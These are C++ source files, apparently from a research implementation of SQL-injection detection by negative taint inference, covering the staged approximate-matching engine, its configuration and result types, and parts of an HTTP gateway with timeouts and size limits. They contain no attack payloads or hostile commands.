  NtiResult AnalyzeCritical(std::string_view query,
                            const std::vector<sql::Token>& critical,
                            const std::vector<http::Input>& inputs) const;

 private:
  NtiConfig config_;
};

}  // namespace joza::nti
