// Negative Taint Inference (Section III-A).
//
// NTI correlates every application input with the intercepted query using
// approximate substring matching. Query spans whose difference ratio
// (edit distance ÷ matched-span length) falls below the threshold are
// marked negatively tainted (untrusted). An attack is reported when one
// input's tainted span fully covers at least one whole critical SQL token.
#pragma once

#include <cstddef>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "costmodel/costmodel.h"
#include "http/request.h"
#include "sqlparse/token.h"
#include "util/span.h"

namespace joza::nti {

// How the per-input approximate match is computed. Every tier is
// verdict-identical — same attack bit, same tainted tokens, same marking
// spans — enforced by the differential suite; they differ only in cost.
enum class MatchTier {
  // One full unbounded Sellers DP per input: O(|input|·|query|) each. The
  // parity baseline every other tier is checked against.
  kReference = 0,
  // Exact-occurrence fast path (find) + threshold-bounded Sellers with
  // per-row pruning. The pre-staged production path.
  kBounded = 1,
  // Staged engine: one multi-pattern exact scan over all inputs at once,
  // q-gram candidate seeding, bit-parallel Myers reject kernel, and a
  // bounded Sellers verification only for surviving candidates. Inputs the
  // kernel cannot take (>64 bytes, non-ASCII) fall back to kBounded.
  kStaged = 2,
};

const char* MatchTierName(MatchTier tier);

struct NtiConfig {
  // Maximum difference ratio that still counts as a match. The paper uses
  // 20% in its worked example (Figure 2C) and shows no fixed value is
  // attack-proof — the evasion benches sweep this.
  double threshold = 0.20;

  // Inputs shorter than this never produce taint markings: very short
  // inputs (single letters) would mark ubiquitous substrings and flood the
  // analysis with false positives (Section III-A).
  std::size_t min_input_length = 3;

  // Matching tier policy (see MatchTier). The default staged engine is an
  // optimization, never a policy change.
  MatchTier tier = MatchTier::kStaged;

  // Measured cost model steering the staged exact stage's strategy choice
  // (automaton vs per-input find) through costmodel::Planner. Null runs
  // the built-in hand-tuned defaults — the pre-calibration behavior,
  // bit-for-bit. Shared across snapshots/engines; never mutated.
  std::shared_ptr<const costmodel::CostModel> cost_model;

  // kBounded knobs (kept for the ablation benches): prune the Sellers DP
  // as soon as no substring can match within the threshold, and try an
  // exact-substring fast path (std::string::find) before the DP.
  bool bounded_search = true;
  bool exact_fast_path = true;

  // Strict Ray-Ligatti-style policy (Section II): identifiers are critical
  // too, so user-supplied field/table names are treated as attacks. Breaks
  // applications with advanced-search features; off by default, matching
  // the paper's pragmatic stance.
  bool strict_tokens = false;
};

struct TaintMarking {
  ByteSpan span;             // tainted query byte range
  std::string input_name;    // which input produced it
  http::InputKind input_kind = http::InputKind::kGet;
  double ratio = 0.0;
  std::size_t distance = 0;
};

struct NtiResult {
  bool attack_detected = false;
  std::vector<TaintMarking> markings;
  // Critical tokens covered by a single input's marking (the evidence).
  std::vector<sql::Token> tainted_critical_tokens;
  // Diagnostics for the perf benches: how far each input travelled through
  // the staged pipeline before being resolved.
  std::size_t inputs_considered = 0;
  std::size_t inputs_skipped = 0;
  std::size_t exact_hits = 0;       // resolved by an exact occurrence
  std::size_t seed_rejects = 0;     // q-gram counting proved no match
  std::size_t seed_candidates = 0;  // survived seeding into the kernel
  std::size_t kernel_rejects = 0;   // Myers bound proved no match
  std::size_t dp_runs = 0;          // full Sellers verifications
  // Tier histogram: which tier actually decided each considered input
  // (staged inputs that fall back are counted under kBounded).
  std::size_t tier_reference = 0;
  std::size_t tier_bounded = 0;
  std::size_t tier_staged = 0;
  // Planner decision histogram (staged exact stage): how each eligible
  // input's exact resolution was actually executed — served from a batch
  // scope's shared automaton, via this check's own multi-pattern scan, or
  // via per-input find(). Distinguishes "exact stage skipped by the cost
  // model" from "exact stage ran and found nothing".
  std::size_t planner_exact_batch = 0;
  std::size_t planner_exact_automaton = 0;
  std::size_t planner_exact_find = 0;
  // Strategy decisions taken from a measured (calibrated) model rather
  // than the built-in defaults; one per decision, not per input.
  std::size_t planner_calibrated = 0;
};

class NtiAnalyzer {
 public:
  explicit NtiAnalyzer(NtiConfig config = {}) : config_(config) {}

  const NtiConfig& config() const { return config_; }

  // Analyzes one query against the request's stored inputs. `tokens` must
  // be the lex of `query` (shared with PTI per Section IV-D: "reuses the
  // critical tokens and keywords previously obtained").
  NtiResult Analyze(std::string_view query,
                    const std::vector<sql::Token>& tokens,
                    const std::vector<http::Input>& inputs) const;

  // Convenience: lexes the query itself.
  NtiResult Analyze(std::string_view query,
                    const std::vector<http::Input>& inputs) const;

  // The single-pass hot path: `critical` must be
  // sql::CriticalTokens(tokens, config().strict_tokens) for the lex of
  // `query` — computed once per request and shared, never re-derived here.
  // The view overload is the zero-copy entry: the views borrow from the
  // stored request and are only read during the call.
  NtiResult AnalyzeCritical(std::string_view query,
                            const std::vector<sql::Token>& critical,
                            const std::vector<http::InputView>& inputs) const;

  // Compatibility shim over the view overload (no input copies: it only
  // builds views of the caller's vector).
  NtiResult AnalyzeCritical(std::string_view query,
                            const std::vector<sql::Token>& critical,
                            const std::vector<http::Input>& inputs) const;

 private:
  NtiConfig config_;
};

}  // namespace joza::nti
