#include "nti/pipeline.h"

#include <cmath>
#include <cstdint>
#include <limits>
#include <unordered_map>

#include "costmodel/planner.h"
#include "match/aho_corasick.h"
#include "match/myers.h"
#include "nti/batch.h"

namespace joza::nti {

namespace {

constexpr std::size_t kNpos = std::string_view::npos;

// A match object meaning "no substring within the bound" — identical to
// what the pruned Sellers DP reports.
match::SubstringMatch NoMatch(std::size_t bound) {
  match::SubstringMatch none;
  none.distance = bound + 1;
  none.ratio = 1.0;
  return none;
}

match::SubstringMatch ExactMatch(std::size_t pos, std::size_t length) {
  match::SubstringMatch m;
  m.distance = 0;
  m.span = {pos, pos + length};
  m.ratio = 0.0;
  return m;
}

}  // namespace

MatcherPipeline::MatcherPipeline(std::string_view query,
                                 const NtiConfig& config,
                                 const std::vector<http::InputView>& inputs,
                                 const std::vector<std::size_t>& eligible,
                                 NtiResult& stats)
    : query_(query), config_(config), inputs_(inputs) {
  if (config_.tier != MatchTier::kStaged || eligible.empty()) return;

  exact_pos_.assign(inputs_.size(), kNpos);

  // Stage 1 (exact, batch path): an admission batch installed a shared
  // automaton over every batched request's values — resolve against it
  // (one cached scan per distinct query) and fall through to the
  // per-check planner only for values the batch never saw.
  std::vector<std::size_t> unresolved;
  if (BatchMatchContext* batch = BatchMatchContext::Current()) {
    for (std::size_t index : eligible) {
      std::size_t pos = kNpos;
      if (batch->Lookup(query_, inputs_[index].value, &pos)) {
        exact_pos_[index] = pos;
        ++stats.planner_exact_batch;
      } else {
        unresolved.push_back(index);
      }
    }
  } else {
    unresolved = eligible;
  }

  // Stage 1 (exact, per-check path): resolve each remaining input's
  // earliest exact occurrence. Strategy — one multi-pattern scan vs
  // per-input find() — is the cost-model planner's call: measured stage
  // curves when a calibrated model is loaded, the built-in hand-tuned
  // defaults otherwise. Duplicated values (the same payload arriving via
  // several parameters) share one pattern on the automaton path.
  costmodel::ExactStageFeatures features;
  features.input_count = unresolved.size();
  features.query_bytes = query_.size();
  for (std::size_t index : unresolved) {
    features.total_value_bytes += inputs_[index].value.size();
  }
  const costmodel::Planner planner(config_.cost_model);
  const bool use_automaton =
      !unresolved.empty() && planner.PlanExactStage(features) ==
                                 costmodel::ExactStrategy::kAutomaton;
  if (!unresolved.empty()) {
    if (planner.calibrated()) ++stats.planner_calibrated;
    if (use_automaton) {
      stats.planner_exact_automaton += unresolved.size();
    } else {
      stats.planner_exact_find += unresolved.size();
    }
  }
  if (use_automaton) {
    match::AhoCorasick ac;
    std::unordered_map<std::string_view, std::int32_t> dedup;
    std::vector<std::size_t> first_hit;
    for (std::size_t index : unresolved) {
      const std::string_view value = inputs_[index].value;
      if (value.empty() || value.size() > query_.size()) continue;
      if (dedup.emplace(value, static_cast<std::int32_t>(first_hit.size()))
              .second) {
        ac.Add(value, static_cast<std::int32_t>(first_hit.size()));
        first_hit.push_back(kNpos);
      }
    }
    ac.Build();
    // Hits arrive in increasing end position; for equal-length occurrences
    // of one pattern that is also increasing start position, so the first
    // hit recorded per pattern is the earliest occurrence — the same span
    // query.find() (and the reference DP's tie-breaking) reports.
    ac.Scan(query_, [&first_hit](const match::AhoCorasick::Hit& hit) {
      if (first_hit[static_cast<std::size_t>(hit.pattern_id)] == kNpos) {
        first_hit[static_cast<std::size_t>(hit.pattern_id)] = hit.begin;
      }
    });
    for (std::size_t index : unresolved) {
      auto it = dedup.find(inputs_[index].value);
      if (it != dedup.end()) {
        exact_pos_[index] = first_hit[static_cast<std::size_t>(it->second)];
      }
    }
  } else {
    for (std::size_t index : unresolved) {
      exact_pos_[index] = query_.find(inputs_[index].value);
    }
  }

  // Stage 2 precomputation (seeding): the q-gram index is shared by every
  // input that was not resolved exactly. Skip it when none needs it.
  for (std::size_t index : eligible) {
    if (exact_pos_[index] == kNpos) {
      qgrams_.emplace(query_);
      break;
    }
  }
}

std::size_t MatcherPipeline::ThresholdBound(std::size_t input_length) const {
  return static_cast<std::size_t>(
      std::ceil(config_.threshold * static_cast<double>(input_length) /
                (1.0 - config_.threshold)));
}

match::SubstringMatch MatcherPipeline::Match(std::size_t index,
                                             NtiResult& stats) const {
  switch (config_.tier) {
    case MatchTier::kReference:
      ++stats.tier_reference;
      return MatchReference(inputs_[index].value, stats);
    case MatchTier::kBounded:
      ++stats.tier_bounded;
      return MatchBounded(inputs_[index].value, stats);
    case MatchTier::kStaged: {
      const std::string_view value = inputs_[index].value;
      // Kernel eligibility and a well-defined bound gate the staged path;
      // everything else takes the existing Sellers tier.
      if (!match::MyersEligible(value) || config_.threshold >= 1.0) {
        ++stats.tier_bounded;
        return MatchBounded(value, stats);
      }
      ++stats.tier_staged;
      return MatchStaged(index, stats);
    }
  }
  ++stats.tier_reference;
  return MatchReference(inputs_[index].value, stats);
}

match::SubstringMatch MatcherPipeline::MatchReference(std::string_view value,
                                                      NtiResult& stats) const {
  ++stats.dp_runs;
  return match::BestSubstringMatch(query_, value);
}

match::SubstringMatch MatcherPipeline::MatchBounded(std::string_view value,
                                                    NtiResult& stats) const {
  if (config_.exact_fast_path) {
    const std::size_t pos = query_.find(value);
    if (pos != kNpos) {
      ++stats.exact_hits;
      return ExactMatch(pos, value.size());
    }
  }
  ++stats.dp_runs;
  if (config_.bounded_search && config_.threshold < 1.0) {
    return match::BestSubstringMatchBounded(query_, value,
                                            ThresholdBound(value.size()));
  }
  return match::BestSubstringMatch(query_, value);
}

match::SubstringMatch MatcherPipeline::MatchStaged(std::size_t index,
                                                   NtiResult& stats) const {
  const std::string_view value = inputs_[index].value;
  if (exact_pos_[index] != kNpos) {
    ++stats.exact_hits;
    return ExactMatch(exact_pos_[index], value.size());
  }
  const std::size_t bound = ThresholdBound(value.size());
  // No exact occurrence and only distance-0 matches can pass the ratio
  // threshold: nothing to find.
  if (bound == 0) return NoMatch(bound);
  if (qgrams_ && qgrams_->Rejects(value, bound)) {
    ++stats.seed_rejects;
    return NoMatch(bound);
  }
  ++stats.seed_candidates;
  if (match::MyersMinDistance(query_, value) > bound) {
    ++stats.kernel_rejects;
    return NoMatch(bound);
  }
  // A sub-bound match exists: run the reference DP for exact distance,
  // span and tie-breaking. The bound can never prune it away (row minima
  // are monotone, and the best final distance is <= bound).
  ++stats.dp_runs;
  return match::BestSubstringMatchBounded(query_, value, bound);
}

}  // namespace joza::nti
