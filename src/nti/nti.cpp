#include "nti/nti.h"

#include "nti/pipeline.h"
#include "sqlparse/critical.h"
#include "sqlparse/lexer.h"

namespace joza::nti {

const char* MatchTierName(MatchTier tier) {
  switch (tier) {
    case MatchTier::kReference: return "reference";
    case MatchTier::kBounded: return "bounded";
    case MatchTier::kStaged: return "staged";
  }
  return "?";
}

NtiResult NtiAnalyzer::Analyze(std::string_view query,
                               const std::vector<http::Input>& inputs) const {
  return Analyze(query, sql::Lex(query), inputs);
}

NtiResult NtiAnalyzer::Analyze(std::string_view query,
                               const std::vector<sql::Token>& tokens,
                               const std::vector<http::Input>& inputs) const {
  return AnalyzeCritical(
      query, sql::CriticalTokens(tokens, config_.strict_tokens), inputs);
}

NtiResult NtiAnalyzer::AnalyzeCritical(
    std::string_view query, const std::vector<sql::Token>& critical,
    const std::vector<http::Input>& inputs) const {
  return AnalyzeCritical(query, critical, http::ViewsOf(inputs));
}

NtiResult NtiAnalyzer::AnalyzeCritical(
    std::string_view query, const std::vector<sql::Token>& critical,
    const std::vector<http::InputView>& inputs) const {
  NtiResult result;

  // Plausibility pruning (identical across tiers): inputs too short to
  // mark safely, or too long to fit any query substring within the
  // threshold, are skipped outright.
  std::vector<std::size_t> eligible;
  eligible.reserve(inputs.size());
  for (std::size_t i = 0; i < inputs.size(); ++i) {
    if (inputs[i].value.size() < config_.min_input_length ||
        static_cast<double>(inputs[i].value.size()) >
            static_cast<double>(query.size()) * (1.0 + config_.threshold)) {
      ++result.inputs_skipped;
      continue;
    }
    eligible.push_back(i);
  }
  result.inputs_considered = eligible.size();
  if (eligible.empty()) return result;

  const MatcherPipeline pipeline(query, config_, inputs, eligible, result);
  for (std::size_t index : eligible) {
    const match::SubstringMatch best = pipeline.Match(index, result);
    if (best.span.empty() || best.ratio > config_.threshold) continue;

    const http::InputView& input = inputs[index];
    TaintMarking marking;
    marking.span = best.span;
    marking.input_name = std::string(input.name);
    marking.input_kind = input.kind;
    marking.ratio = best.ratio;
    marking.distance = best.distance;

    // Whole-token rule: this input's marking is an attack only if it fully
    // covers at least one critical token. Markings from different inputs
    // are never combined (that would flood false positives; Section III-A).
    for (const sql::Token& t : critical) {
      if (marking.span.contains(t.span)) {
        result.attack_detected = true;
        result.tainted_critical_tokens.push_back(t);
      }
    }
    result.markings.push_back(std::move(marking));
  }
  return result;
}

}  // namespace joza::nti
