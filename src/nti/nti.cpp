#include "nti/nti.h"

#include <cmath>

#include "match/substring.h"
#include "sqlparse/critical.h"
#include "sqlparse/lexer.h"

namespace joza::nti {

NtiResult NtiAnalyzer::Analyze(std::string_view query,
                               const std::vector<http::Input>& inputs) const {
  return Analyze(query, sql::Lex(query), inputs);
}

NtiResult NtiAnalyzer::Analyze(std::string_view query,
                               const std::vector<sql::Token>& tokens,
                               const std::vector<http::Input>& inputs) const {
  return AnalyzeCritical(
      query, sql::CriticalTokens(tokens, config_.strict_tokens), inputs);
}

NtiResult NtiAnalyzer::AnalyzeCritical(
    std::string_view query, const std::vector<sql::Token>& critical,
    const std::vector<http::Input>& inputs) const {
  NtiResult result;

  for (const http::Input& input : inputs) {
    // Plausibility pruning: inputs too short to mark safely, or too long to
    // fit any query substring within the threshold, are skipped outright.
    if (input.value.size() < config_.min_input_length) {
      ++result.inputs_skipped;
      continue;
    }
    const double max_ratio = config_.threshold;
    if (static_cast<double>(input.value.size()) >
        static_cast<double>(query.size()) * (1.0 + max_ratio)) {
      ++result.inputs_skipped;
      continue;
    }
    ++result.inputs_considered;

    match::SubstringMatch best;
    bool have_match = false;
    if (config_.exact_fast_path) {
      std::size_t pos = query.find(input.value);
      if (pos != std::string_view::npos) {
        best.distance = 0;
        best.span = {pos, pos + input.value.size()};
        best.ratio = 0.0;
        have_match = true;
      }
    }
    if (!have_match) {
      ++result.dp_runs;
      if (config_.bounded_search) {
        // dist <= t*span_len and span_len <= |input| + dist imply
        // dist <= t*|input| / (1-t): the tightest sound DP bound.
        const std::size_t bound = static_cast<std::size_t>(std::ceil(
            max_ratio * static_cast<double>(input.value.size()) /
            (1.0 - max_ratio)));
        best = match::BestSubstringMatchBounded(query, input.value, bound);
      } else {
        best = match::BestSubstringMatch(query, input.value);
      }
    }

    if (best.span.empty() || best.ratio > max_ratio) continue;

    TaintMarking marking;
    marking.span = best.span;
    marking.input_name = input.name;
    marking.input_kind = input.kind;
    marking.ratio = best.ratio;
    marking.distance = best.distance;

    // Whole-token rule: this input's marking is an attack only if it fully
    // covers at least one critical token. Markings from different inputs
    // are never combined (that would flood false positives; Section III-A).
    for (const sql::Token& t : critical) {
      if (marking.span.contains(t.span)) {
        result.attack_detected = true;
        result.tainted_critical_tokens.push_back(t);
      }
    }
    result.markings.push_back(std::move(marking));
  }
  return result;
}

}  // namespace joza::nti
