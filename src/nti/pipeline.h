// Staged NTI matching engine (one instance per analyzed query).
//
// Mirrors the pti::Ruleset design: all per-query precomputation — the
// multi-pattern exact index over every input at once and the query's
// q-gram index — is hoisted out of the per-input loop, and each input then
// descends through progressively cheaper-to-pass / costlier-to-run stages:
//
//   exact scan  →  q-gram seeding  →  Myers reject kernel  →  Sellers DP
//
// Only candidates that survive every filter pay for the O(|input|·|query|)
// verification, and that verification is the reference DP itself — so the
// pipeline is verdict-identical to the reference tier by construction
// (filters are exact rejects, accepts are re-verified).
#pragma once

#include <cstddef>
#include <optional>
#include <string_view>
#include <vector>

#include "match/qgram.h"
#include "match/substring.h"
#include "nti/nti.h"

namespace joza::nti {

class MatcherPipeline {
 public:
  // `query`, `config` and `inputs` must outlive the pipeline. `eligible`
  // holds the indices of inputs that passed the analyzer's pre-filters
  // (min length, overlong) — the only ones Match() may be asked about.
  // Construction runs the exact stage under the strategy chosen by
  // costmodel::Planner (config.cost_model; built-in defaults when null)
  // and records its planner_* decision counters into `stats`.
  MatcherPipeline(std::string_view query, const NtiConfig& config,
                  const std::vector<http::InputView>& inputs,
                  const std::vector<std::size_t>& eligible, NtiResult& stats);

  // Best approximate match for inputs[index]. Identical distance, span and
  // ratio to the reference tier; pipeline counters accumulate in `stats`.
  match::SubstringMatch Match(std::size_t index, NtiResult& stats) const;

 private:
  match::SubstringMatch MatchReference(std::string_view value,
                                       NtiResult& stats) const;
  match::SubstringMatch MatchBounded(std::string_view value,
                                     NtiResult& stats) const;
  match::SubstringMatch MatchStaged(std::size_t index, NtiResult& stats) const;

  // Tightest sound DP bound for the ratio threshold: ratio <= t and
  // span_len <= |input| + dist imply dist <= t*|input| / (1-t).
  std::size_t ThresholdBound(std::size_t input_length) const;

  std::string_view query_;
  const NtiConfig& config_;
  const std::vector<http::InputView>& inputs_;
  // Earliest exact occurrence of each input's value in the query (npos =
  // none), filled by one Aho–Corasick scan or per-input find() — whichever
  // the cost-model planner chose. Staged tier only.
  std::vector<std::size_t> exact_pos_;
  // Query q-gram index, built only when some input survives the exact
  // stage. Staged tier only.
  std::optional<match::QGramIndex> qgrams_;
};

}  // namespace joza::nti
