// Batched exact-stage amortization for the staged matcher.
//
// The event-driven gateway admits up to N ready requests per tick as one
// batch. Their input values overlap heavily (session cookies, headers,
// boilerplate parameters repeat across requests), so instead of each
// check building its own per-query exact index, the batch installs a
// thread-local BatchMatchContext holding ONE deduplicated Aho–Corasick
// automaton over the union of every batched request's values. Each
// MatcherPipeline then resolves its exact stage with a single automaton
// scan per distinct query — cached, so repeated queries inside the batch
// (the common case behind the safety caches) pay nothing at all. This is
// the batch dimension of the PR-5 cost model: the automaton build is
// amortized across the whole batch rather than justified per check.
//
// Parity by construction: the earliest exact occurrence of `value` in
// `query` is a fact about that pair alone — Aho–Corasick reports hits in
// increasing end position, which for occurrences of one fixed-length
// pattern is increasing begin position, so the first hit recorded per
// pattern is exactly what query.find(value) returns, regardless of which
// other patterns share the automaton.
//
// Lifetime: registered values are borrowed views into the batch's
// http::Request objects; the requests must outlive the scope. Thread
// confinement: the context is installed thread-local and is not shareable
// across threads (each event-loop shard batches independently).
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "http/request.h"
#include "match/aho_corasick.h"

namespace joza::nti {

class BatchMatchContext {
 public:
  // The context installed on this thread by a live ScopedBatchMatch, or
  // nullptr (the pipeline falls back to its per-check cost model).
  static BatchMatchContext* Current();

  // Adds all of one request's input values to the shared pattern set
  // (deduplicated; empty values are skipped — they are never eligible for
  // matching anyway). Registering after a Lookup invalidates the built
  // automaton and its scan cache; the gateway registers everything first.
  void Register(const http::Request& request);

  // Resolves the earliest exact occurrence of `value` in `query`. Returns
  // false iff the value was never registered (caller must fall back);
  // true with *pos == npos means registered but absent from the query.
  bool Lookup(std::string_view query, std::string_view value,
              std::size_t* pos);

  std::size_t pattern_count() const { return patterns_.size(); }
  // Automaton scans actually run (one per distinct query text) vs lookups
  // answered from the per-query scan cache.
  std::uint64_t scans() const { return scans_; }
  std::uint64_t reuses() const { return reuses_; }

 private:
  friend class ScopedBatchMatch;

  void EnsureBuilt();

  std::unordered_map<std::string_view, std::size_t> ids_;  // value -> id
  std::vector<std::string_view> patterns_;                 // id -> value
  match::AhoCorasick ac_;
  bool built_ = false;
  // Query text -> first-hit position per pattern id (npos = absent).
  std::unordered_map<std::string, std::vector<std::size_t>> first_hits_;
  std::uint64_t scans_ = 0;
  std::uint64_t reuses_ = 0;
};

// RAII installer: while alive, this thread's staged pipelines resolve
// their exact stage through the enclosed context. Nests by shadowing
// (inner scope wins, outer restored on destruction).
class ScopedBatchMatch {
 public:
  ScopedBatchMatch();
  ~ScopedBatchMatch();

  ScopedBatchMatch(const ScopedBatchMatch&) = delete;
  ScopedBatchMatch& operator=(const ScopedBatchMatch&) = delete;

  BatchMatchContext& context() { return context_; }

 private:
  BatchMatchContext context_;
  BatchMatchContext* previous_;
};

}  // namespace joza::nti
