#include "gateway/timer_wheel.h"

namespace joza::gateway {

TimerWheel::TimerWheel(Clock::time_point now, std::chrono::milliseconds tick,
                       std::size_t slots)
    : slots_(slots), cursor_time_(now), tick_(tick) {}

void TimerWheel::Schedule(int fd, std::uint64_t gen, Clock::time_point due) {
  // Clamp into the wheel's horizon: never earlier than the next tick (the
  // cursor slot has already fired) and never past one full revolution.
  std::size_t ticks_ahead = 1;
  if (due > cursor_time_) {
    const auto delta = due - cursor_time_;
    ticks_ahead = static_cast<std::size_t>((delta + tick_ -
                                            std::chrono::milliseconds(1)) /
                                           tick_);
    if (ticks_ahead < 1) ticks_ahead = 1;
    if (ticks_ahead >= slots_.size()) ticks_ahead = slots_.size() - 1;
  }
  slots_[(cursor_ + ticks_ahead) % slots_.size()].push_back(Entry{fd, gen});
  ++count_;
}

int TimerWheel::NextDelayMs(Clock::time_point now, int cap_ms) const {
  if (count_ == 0) return cap_ms;
  for (std::size_t i = 1; i < slots_.size(); ++i) {
    if (slots_[(cursor_ + i) % slots_.size()].empty()) continue;
    const auto due = cursor_time_ + tick_ * i;
    if (due <= now) return 0;
    const auto ms =
        std::chrono::duration_cast<std::chrono::milliseconds>(due - now)
            .count();
    return static_cast<int>(ms < cap_ms ? (ms > 0 ? ms : 1) : cap_ms);
  }
  return cap_ms;
}

}  // namespace joza::gateway
