// Keep-alive HTTP client for driving the gateway from tests and benches.
//
// webapp::FetchRaw opens one connection per request (the HTTP/1.0 model);
// this client holds a persistent HTTP/1.1 connection, reads responses by
// Content-Length, and transparently reconnects when the server closed the
// connection (drain, per-connection request cap, idle timeout). One client
// per thread — instances are not thread-safe, by design: a load generator
// runs many clients, not one shared one.
#pragma once

#include <string>

#include "http/request.h"
#include "util/status.h"
#include "webapp/http_server.h"

namespace joza::gateway {

// Serializes a workload request into raw HTTP/1.1 bytes (GET query string
// or x-www-form-urlencoded POST body, cookies, keep-alive header).
std::string SerializeRequest(const http::Request& request, bool keep_alive);

class KeepAliveClient {
 public:
  explicit KeepAliveClient(int port) : port_(port) {}
  ~KeepAliveClient() { Close(); }

  KeepAliveClient(const KeepAliveClient&) = delete;
  KeepAliveClient& operator=(const KeepAliveClient&) = delete;

  // Round-trips one request; reconnects once if the pooled connection was
  // closed under us (races with server-side idle close are benign).
  StatusOr<webapp::SimpleResponse> Get(const std::string& path_and_query);
  StatusOr<webapp::SimpleResponse> Send(const http::Request& request);

  // Raw variant: ships exactly `raw` and returns the raw response text.
  StatusOr<std::string> RoundTrip(const std::string& raw);

  void Close();
  std::size_t reconnects() const { return reconnects_; }

 private:
  Status EnsureConnected();
  StatusOr<std::string> TryRoundTrip(const std::string& raw);
  StatusOr<std::string> ReadOneResponse();
  StatusOr<webapp::SimpleResponse> Finish(StatusOr<std::string> raw);

  int port_;
  int fd_ = -1;
  std::string buf_;  // bytes past the previous response (pipelining slack)
  std::size_t reconnects_ = 0;
};

}  // namespace joza::gateway
