// The original blocking-socket thread-pool backend: one accept thread
// feeding a bounded queue, N workers each serving one connection at a time
// with per-request poll(2) deadlines. Kept behaviorally identical to its
// pre-refactor form — it is the reference the epoll backend is held to —
// with all counters and admission state routed through GatewayShared.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <cerrno>
#include <condition_variable>
#include <cstring>
#include <deque>
#include <mutex>
#include <thread>

#include "gateway/server_impl.h"
#include "resilience/injector.h"
#include "util/deadline.h"
#include "util/strings.h"
#include "webapp/http_server.h"

namespace joza::gateway::internal {

namespace {

// Waits for `fd` to become readable before the deadline (only called with a
// finite one). Timeout = the slowloris guard fired.
Status WaitReadable(int fd, const util::Deadline& deadline) {
  for (;;) {
    pollfd pfd{};
    pfd.fd = fd;
    pfd.events = POLLIN;
    const int n = ::poll(&pfd, 1, deadline.poll_timeout_ms());
    if (n > 0) return Status::Ok();
    if (n == 0) return Status::DeadlineExceeded("request read deadline");
    if (errno == EINTR) continue;
    return Status::Unavailable(std::string("poll(): ") +
                               std::strerror(errno));
  }
}

// Reads one full HTTP request out of the connection stream. `buf` carries
// leftover bytes between calls (keep-alive pipelining); on success the
// request's raw bytes are returned and removed from `buf`. NotFound means
// the peer closed cleanly between requests; Unavailable covers idle
// timeouts (SO_RCVTIMEO) and resets. Two guards bound hostile clients:
// once a request's first byte is in, the rest must arrive within
// `read_timeout` (kDeadlineExceeded -> 408, a slowloris dribbling bytes
// cannot pin the worker) and the whole request must fit in
// `max_request_bytes` (kInvalidArgument -> 413).
StatusOr<std::string> ReadOneRequest(int fd, std::string& buf,
                                     const GatewayConfig& config) {
  // The read deadline arms at the first byte of the request, not at idle
  // wait: keep-alive connections may legitimately sit quiet for the whole
  // keepalive_timeout between requests.
  util::Deadline deadline;
  auto arm = [&] {
    if (!deadline.finite() && config.read_timeout.count() > 0) {
      deadline = util::Deadline::After(config.read_timeout);
    }
  };
  if (!buf.empty()) arm();  // pipelined leftovers already started the clock

  std::size_t header_end = buf.find("\r\n\r\n");
  char chunk[4096];
  while (header_end == std::string::npos) {
    if (deadline.finite()) {
      if (Status st = WaitReadable(fd, deadline); !st.ok()) return st;
    }
    ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable(std::string("recv(): ") +
                                 std::strerror(errno));
    }
    if (n == 0) {
      if (buf.empty()) return Status::NotFound("peer closed");
      return Status::Unavailable("connection closed mid-request");
    }
    buf.append(chunk, static_cast<std::size_t>(n));
    arm();
    if (buf.size() > config.max_request_bytes) {
      return Status::InvalidArgument("request too large");
    }
    header_end = buf.find("\r\n\r\n");
  }

  std::size_t content_length = 0;
  const std::size_t cl =
      FindIgnoreCase(std::string_view(buf).substr(0, header_end),
                     "content-length:");
  if (cl != std::string_view::npos) {
    content_length = static_cast<std::size_t>(
        std::strtoul(buf.c_str() + cl + 15, nullptr, 10));
    if (content_length > config.max_request_bytes ||
        header_end + 4 + content_length > config.max_request_bytes) {
      return Status::InvalidArgument("request body too large");
    }
  }
  const std::size_t total = header_end + 4 + content_length;
  while (buf.size() < total) {
    if (deadline.finite()) {
      if (Status st = WaitReadable(fd, deadline); !st.ok()) return st;
    }
    ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable("recv() during body");
    }
    if (n == 0) return Status::Unavailable("connection closed mid-body");
    buf.append(chunk, static_cast<std::size_t>(n));
    arm();
  }
  std::string raw = buf.substr(0, total);
  buf.erase(0, total);
  return raw;
}

class ThreadServer : public ServerImpl {
 public:
  explicit ThreadServer(GatewayShared& shared) : shared_(shared) {}
  ~ThreadServer() override { Stop(); }

  StatusOr<int> Start() override;
  void Stop() override;

 private:
  struct WorkerSlot {
    std::thread thread;
    std::mutex conn_mu;         // guards active_fd against Stop()
    int active_fd = -1;         // connection currently being served
    std::atomic<bool> done{false};
  };

  struct QueuedConn {
    int fd = -1;
    std::chrono::steady_clock::time_point enqueued;
  };

  void AcceptLoop();
  void WorkerLoop(WorkerSlot& slot);
  void ServeConnection(webapp::Application& app, int fd);
  // Drains the pending request and answers `status`/`body`, then closes.
  void RejectConnection(int fd, int status, const char* body);
  void Reject503(int fd);

  const GatewayConfig& config() const { return shared_.config; }

  GatewayShared& shared_;

  // Atomic: Stop() invalidates it while the accept thread reads it.
  std::atomic<int> listen_fd_{-1};
  std::thread accept_thread_;
  std::atomic<bool> running_{false};

  std::mutex queue_mu_;
  std::condition_variable queue_cv_;
  std::deque<QueuedConn> queue_;
  bool draining_ = false;

  std::vector<std::unique_ptr<WorkerSlot>> workers_;
};

StatusOr<int> ThreadServer::Start() {
  if (running_.load()) return Status::InvalidArgument("already running");
  listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (listen_fd_ < 0) {
    return Status::Unavailable(std::string("socket(): ") +
                               std::strerror(errno));
  }
  int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(static_cast<std::uint16_t>(config().port));
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) !=
      0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Unavailable(std::string("bind(): ") +
                               std::strerror(errno));
  }
  socklen_t len = sizeof addr;
  ::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&addr), &len);
